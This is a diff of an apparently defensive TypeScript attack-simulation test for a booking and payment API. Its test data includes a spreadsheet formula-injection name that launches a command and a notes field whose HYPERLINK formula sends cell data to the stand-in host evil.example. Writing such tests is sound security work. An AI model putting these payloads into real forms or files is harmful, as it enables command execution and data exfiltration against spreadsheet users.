@@ -6,6 +6,7 @@ import { type Client, type SiegeContext, startsOn } from './context.ts'
 
 /** Texts that attackers try to bring into mails or lists. No mail to the outside may contain them. */
 export const ATTACKERS_WORDS = ['evil.example', 'URGENT', 'IBAN'] as const
+/** The names under which attackers book. */
 const names = [
   'URGENT votre compte est bloqué : evil.example',
   "Zoe;=cmd|' /C calc'!A0;x",
@@ -21,15 +22,24 @@ type Hold = { readonly id: number }
 type Intent = { readonly id: string; readonly secret: string }
 /** An attacker's address, with the holds and payment intents that it has obtained. */
 type Attacker = { readonly client: Client; readonly holds: Hold[]; readonly intents: Intent[] }
-/** Gives the answer of its last request; undefined when there was nothing to attack, for example no hold to pay for. */
+/** Returns the answer to its last request; undefined when there was nothing to attack, for example no hold to pay for. */
 type Attack = (context: SiegeContext, attacker: Attacker) => Promise<Answer | undefined>
 
 /** For each attack, how often it was answered with which status. */
 export type Answers = Map<string, Map<number, number>>
 
+/** The address of one of forty third parties. */
 const victim = ({ random }: SiegeContext) => `victim-${random.below(40)}@${THIRD_PARTY}`
 
-async function hold(context: SiegeContext, { client, holds }: Attacker, who: object = {}): Promise<Answer | undefined> {
+/**
+ * Holds a random time of the week.
+ * @param fields fields of the booking that differ
+ */
+async function hold(
+  context: SiegeContext,
+  { client, holds }: Attacker,
+  fields: object = {},
+): Promise<Answer | undefined> {
   const { random } = context
   const serviceId = random.pick(context.allServiceIds)
   const starts = await startsOn(client, serviceId, random.pick(context.dates))
@@ -42,7 +52,7 @@ async function hold(context: SiegeContext, { client, holds }: Attacker, who: obj
     customer_phone: `06 ${10 + random.below(90)} ${10 + random.below(90)} 34 56`,
     notes: 'bonjour\n=HYPERLINK("http://evil.example/?"&A1;"ouvrir")',
     terms_accepted: true,
-    ...who,
+    ...fields,
   })
   if (answer.status === 201) holds.push(answer.body as Hold)
   return answer
@@ -108,7 +118,7 @@ const attacks: Readonly<Record<string, Attack>> = {
     logIn(client, `${random.pick(['camille', 'ines'])}@maison-alba.example`),
   'a wrong password for nobody': (_, { client }) => logIn(client, `${randomUUID().slice(0, 8)}@${THIRD_PARTY}`),
   "end a nurse's session": ({ leaked }, { client }) =>
-    client('POST', '/api/auth/refresh', { refresh_token: `${leaked.family ?? 'none'}.${randomUUID()}` }),
+    client('POST', '/api/auth/refresh', { refresh_token: `${leaked.sessionId ?? 'none'}.${randomUUID()}` }),
   'the second log-in step alone': (_, { client }) =>
     client('POST', '/api/auth/login/recovery-code', { login_token: 'made-up', recovery_code: 'ABCDE-FGHJK-MN' }),
   'add a passkey': (_, { client }) => client('POST', '/api/auth/passkeys/options', { password: DEMO_PASSWORD }),
@@ -126,8 +136,8 @@ const attacks: Readonly<Record<string, Attack>> = {
     if (ordered.status !== 201) return ordered
     return openPayment(attacker, { type: 'voucher', voucher_id: (ordered.body as Hold).id })
   },
-  // The id of a voucher of a package derives from a text of this form. An order whose idempotency key is that text must
-  // get another id, or the package could not issue its voucher.
+  // The ids of a package's vouchers derive from texts of this form. An order with such a text as idempotency key must not
+  // get the same id, or the package could not issue its voucher.
   "take a package's vouchers": async (context, attacker) => {
     const { purchaseId } = context.leaked
     return purchaseId === undefined
